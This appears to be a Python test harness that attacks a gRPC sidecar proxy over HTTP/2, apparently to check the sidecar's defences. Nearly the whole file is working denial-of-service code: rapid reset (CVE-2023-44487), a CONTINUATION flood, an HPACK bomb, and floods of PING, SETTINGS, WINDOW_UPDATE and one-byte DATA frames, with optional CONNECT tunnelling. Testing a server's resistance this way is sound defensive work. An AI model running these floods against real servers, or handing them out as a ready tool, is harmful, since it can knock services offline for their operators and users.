"""A hostile HTTP/2 caller, written with the `h2` package (a client that
shares no code with the sidecar's). Runs one attack against a sidecar port
for a bounded time and prints what it did as one line of JSON.

usage: flood.py ATTACK HOST:PORT [--seconds S] [--connections N]
                [--authority A] [--connect TARGET]

Attacks:
  delayed_reset   on each connection, open 100 calls (a whole unary request
                  each), wait 2 ms, reset them all; again. A connection the
                  sidecar closes is opened again.
  window_update   open one call, then send WINDOW_UPDATE(+1) frames on the
                  connection and the stream without pause.
  small_data      open one call and send its body as 1-byte DATA frames
                  without pause.
  ping            PING frames without pause.
  settings        SETTINGS frames without pause.
  rapid_reset     the plain rapid reset (CVE-2023-44487): open a call and
                  reset it in the same write, 100 at a time, without pause.
  continuation    a HEADERS frame without END_HEADERS, then CONTINUATION
                  frames of 1 KiB of new header fields, without end
                  (the CONTINUATION flood, CVE-2024-27316 and kin).
  hpack_bomb      a 4 KiB header value put in the HPACK table once, then
                  calls whose header blocks name it 4,000 times each (16 MiB
                  of headers from 4 KB on the wire).

With --connect TARGET each connection is a CONNECT tunnel to TARGET through
the proxy port, and HTTP/2 runs inside it.
"""

import argparse
import json
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions

PATH = "/agentmesh.demo.v1.Agent/Invoke"


def grpc_message(payload=b"x"):
    # InvokeRequest { payload = 1: bytes }, framed: uncompressed, length.
    body = b"\x0a" + bytes([len(payload)]) + payload
    return b"\x00" + struct.pack(">I", len(body)) + body


class Conn:
    """One HTTP/2 connection: its socket, its h2 state, what it saw."""

    def __init__(self, addr, authority, connect):
        host, port = addr.rsplit(":", 1)
        self.sock = socket.create_connection((host, int(port)), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if connect:
            head = f"CONNECT {connect} HTTP/1.1\r\nHost: {connect}\r\n\r\n".encode()
            self.sock.sendall(head)
            answer = b""
            while b"\r\n\r\n" not in answer:
                chunk = self.sock.recv(4096)
                if not chunk:
                    raise ConnectionError("the proxy closed the CONNECT")
                answer += chunk
            if not answer.startswith(b"HTTP/1.1 200"):
                raise ConnectionError(answer.split(b"\r\n")[0].decode())
        self.sock.setblocking(False)
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.h2.initiate_connection()
        self.authority = authority
        self.closed = False
        self.goaway = None
        self.flush()

    def headers(self):
        return [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", PATH),
            (":authority", self.authority),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        ]

    def flush(self):
        data = self.h2.data_to_send()
        if data and not self.closed:
            try:
                self.sock.setblocking(True)
                self.sock.sendall(data)
            except OSError:
                self.closed = True
            finally:
                self.sock.setblocking(False)

    def send_raw(self, frame):
        if self.closed:
            return
        try:
            self.sock.setblocking(True)
            self.sock.sendall(frame)
        except OSError:
            self.closed = True
        finally:
            self.sock.setblocking(False)

    def pump(self):
        """Reads what has arrived, without waiting."""
        while not self.closed:
            try:
                data = self.sock.recv(65536)
            except BlockingIOError:
                break
            except OSError:
                self.closed = True
                break
            if not data:
                self.closed = True
                break
            try:
                events = self.h2.receive_data(data)
            except h2.exceptions.ProtocolError:
                self.closed = True
                break
            for e in events:
                if isinstance(e, h2.events.ConnectionTerminated):
                    self.goaway = int(e.error_code)
        self.flush()

    def close(self):
        self.closed = True
        try:
            self.sock.close()
        except OSError:
            pass


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def hpack_int(value, prefix_bits, first=0):
    """An HPACK integer with a `prefix_bits`-bit prefix, the prefix's
    other bits set from `first`."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def hpack_literal(name, value, indexed=False):
    """A literal header field with a new name: with incremental indexing
    (into the dynamic table) or without indexing."""
    head = b"\x40" if indexed else b"\x00"
    return head + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


def request_block(c):
    """The usual request headers, as literals (no table state needed)."""
    return b"".join(hpack_literal(k.encode(), v.encode()) for k, v in c.headers())


def read_goaway(c):
    """Reads what came back without feeding the h2 state (raw frames have
    put it out of step); notes a GOAWAY's error code."""
    try:
        while True:
            data = c.sock.recv(65536)
            if not data:
                c.closed = True
                break
            at = data.find(b"\x07\x00\x00\x00\x00\x00")
            if c.goaway is None and at >= 3 and len(data) >= at + 14:
                c.goaway = struct.unpack(">I", data[at + 10 : at + 14])[0]
    except BlockingIOError:
        pass
    except OSError:
        c.closed = True


def run_header_attack(args, conns, live, report, deadline):
    """The CONTINUATION flood and the HPACK bomb, written as raw frames on
    fresh stream ids (odd, rising) after the h2 package's preface."""
    pad = hpack_literal(b"x-pad", b"a" * 100) * 10
    big = b"b" * 4000
    while time.monotonic() < deadline:
        for i in range(len(conns)):
            c = live(i)
            # Per connection: the next stream id, and whether its first
            # block was sent.
            sid = getattr(c, "next_sid", 1)
            primed = getattr(c, "primed", False)
            if args.attack == "continuation":
                if not primed:
                    c.send_raw(frame(0x1, 0x0, sid, request_block(c)))
                    report["streams"] += 1
                c.send_raw(frame(0x9, 0x0, sid, pad) * 64)
                if not c.closed:
                    report["frames"] += 64
            else:
                if not primed:
                    block = request_block(c) + hpack_literal(b"x-big", big, indexed=True)
                else:
                    # Index 62: the newest entry of the dynamic table.
                    block = request_block(c) + b"\xbe" * 4000
                c.send_raw(frame(0x1, 0x5, sid, block))
                c.next_sid = sid + 2
                if not c.closed:
                    report["streams"] += 1
                    report["frames"] += 1
            c.primed = True
            read_goaway(c)


def run(args):
    deadline = time.monotonic() + args.seconds
    report = {"attack": args.attack, "connections": 0, "streams": 0, "resets": 0, "frames": 0, "goaway": {}}
    conns = []

    def open_conn():
        c = Conn(args.addr, args.authority, args.connect)
        report["connections"] += 1
        return c

    def retire(c):
        if c.goaway is not None:
            key = str(c.goaway)
            report["goaway"][key] = report["goaway"].get(key, 0) + 1
        c.close()

    def live(i):
        c = conns[i]
        if c.closed:
            retire(c)
            conns[i] = c = open_conn()
        return c

    try:
        conns = [open_conn() for _ in range(args.connections)]
        if args.attack == "delayed_reset":
            message = grpc_message()
            while time.monotonic() < deadline:
                opened = []
                for i in range(len(conns)):
                    c = live(i)
                    c.pump()
                    ids = []
                    for _ in range(100):
                        try:
                            sid = c.h2.get_next_available_stream_id()
                            c.h2.send_headers(sid, c.headers())
                            c.h2.send_data(sid, message, end_stream=True)
                        except (h2.exceptions.ProtocolError, h2.exceptions.FlowControlError):
                            break
                        ids.append(sid)
                    c.flush()
                    report["streams"] += len(ids)
                    opened.append((c, ids))
                time.sleep(0.002)
                for c, ids in opened:
                    for sid in ids:
                        try:
                            c.h2.reset_stream(sid, error_code=8)
                            report["resets"] += 1
                        except h2.exceptions.ProtocolError:
                            pass  # already closed: answered in time
                    c.flush()
                    c.pump()
        elif args.attack == "rapid_reset":
            while time.monotonic() < deadline:
                for i in range(len(conns)):
                    c = live(i)
                    c.pump()
                    for _ in range(100):
                        try:
                            sid = c.h2.get_next_available_stream_id()
                            c.h2.send_headers(sid, c.headers())
                            c.h2.reset_stream(sid, error_code=8)
                        except h2.exceptions.ProtocolError:
                            break
                        report["streams"] += 1
                        report["resets"] += 1
                    c.flush()
        elif args.attack in ("continuation", "hpack_bomb"):
            run_header_attack(args, conns, live, report, deadline)
        else:
            # Frame floods, written raw: the h2 package would refuse to
            # send some of them.
            c = live(0)
            sid = c.h2.get_next_available_stream_id()
            c.h2.send_headers(sid, c.headers())
            c.flush()
            report["streams"] += 1
            if args.attack == "window_update":
                one = struct.pack(">I", 1)
                batch = (frame(0x8, 0, 0, one) + frame(0x8, 0, sid, one)) * 256
                per = 512
            elif args.attack == "small_data":
                batch = frame(0x0, 0, sid, b"\x00") * 512
                per = 512
            elif args.attack == "ping":
                batch = frame(0x6, 0, 0, b"\x00" * 8) * 512
                per = 512
            elif args.attack == "settings":
                batch = frame(0x4, 0, 0, b"") * 512
                per = 512
            else:
                raise SystemExit(f"unknown attack {args.attack}")
            while time.monotonic() < deadline:
                c = conns[0]
                if c.closed:
                    retire(c)
                    conns[0] = c = open_conn()
                    sid = c.h2.get_next_available_stream_id()
                    c.h2.send_headers(sid, c.headers())
                    c.flush()
                    report["streams"] += 1
                    if args.attack in ("window_update", "small_data"):
                        one = struct.pack(">I", 1)
                        batch = (
                            (frame(0x8, 0, 0, one) + frame(0x8, 0, sid, one)) * 256
                            if args.attack == "window_update"
                            else frame(0x0, 0, sid, b"\x00") * 512
                        )
                c.send_raw(batch)
                if not c.closed:
                    report["frames"] += per
                read_goaway(c)
    finally:
        for c in conns:
            if c.closed:
                retire(c)
            else:
                c.close()
    return report


def main():
    p = argparse.ArgumentParser()
    p.add_argument("attack")
    p.add_argument("addr")
    p.add_argument("--seconds", type=float, default=3.0)
    p.add_argument("--connections", type=int, default=4)
    p.add_argument("--authority", default="planner.agents:50051")
    p.add_argument("--connect", default=None)
    args = p.parse_args()
    print(json.dumps(run(args)))
    sys.stdout.flush()


if __name__ == "__main__":
    main()
